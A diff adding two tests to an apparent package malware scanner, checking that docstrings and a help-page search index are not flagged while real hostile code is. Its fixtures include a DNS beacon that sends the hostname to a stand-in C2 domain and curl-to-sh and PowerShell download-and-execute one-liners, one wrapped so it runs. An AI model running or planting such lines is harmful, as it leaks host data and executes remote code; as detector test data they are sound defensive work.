@@ -598,3 +598,29 @@ def test_a_download_and_run_line_in_a_docstring_is_prose() -> None:
     assert SignalKind.DOWNLOAD_EXEC not in kinds({"pkg/preflight.py": DOCSTRING_INSTALL})
     assigned = DOCSTRING_INSTALL.replace('"""Preflight', 'NOTE = """Preflight', 1)
     assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/preflight.py": assigned})
+
+
+def test_prose_about_a_host_name_is_no_dns_beacon() -> None:
+    """An attribute docstring that starts with 'Host name', beside code that uses the
+    host's name and an attribute chain ending in a TLD-like word."""
+    code = ('import socket\n\n\nclass State:\n    node: str | None = None\n'
+            '    "Host name of the runner that has the job."\n\n'
+            '    def claim(self):\n        name = socket.gethostname()\n'
+            '        return self.runner.link.send(name)\n')
+    assert SignalKind.DNS_BEACON not in kinds({"pkg/runner.py": code})
+    beacon = 'import os\nos.system("nslookup $(hostname).c2-collect.xyz")\n'
+    assert SignalKind.DNS_BEACON in kinds({"pkg/__init__.py": beacon})
+
+
+def test_command_lines_in_a_help_index_or_a_grammar_are_data() -> None:
+    """JavaScript that starts no process: a search index of help pages and a syntax
+    highlighter's PowerShell grammar quote install one-liners; a script that runs them
+    is another matter."""
+    index = ('window.HELP = [{"t": "Install", "s": "On Linux: curl -LsSf '
+             'https://astral.sh/uv/install.sh | sh; on Windows: powershell -ExecutionPolicy '
+             'ByPass -c \\"irm https://astral.sh/uv/install.ps1 | iex\\""}];\n')
+    found = kinds({"pkg/help/search-index.js": index}, NPM)
+    assert not {SignalKind.DOWNLOAD_EXEC, SignalKind.POWERSHELL_SUSPICIOUS} & found
+    runs = 'const cp = require("child_process");\n' + index.replace(
+        "window.HELP = ", "cp.execSync(JSON.stringify(") + "\n"
+    assert SignalKind.DOWNLOAD_EXEC in kinds({"pkg/run.js": runs}, NPM)
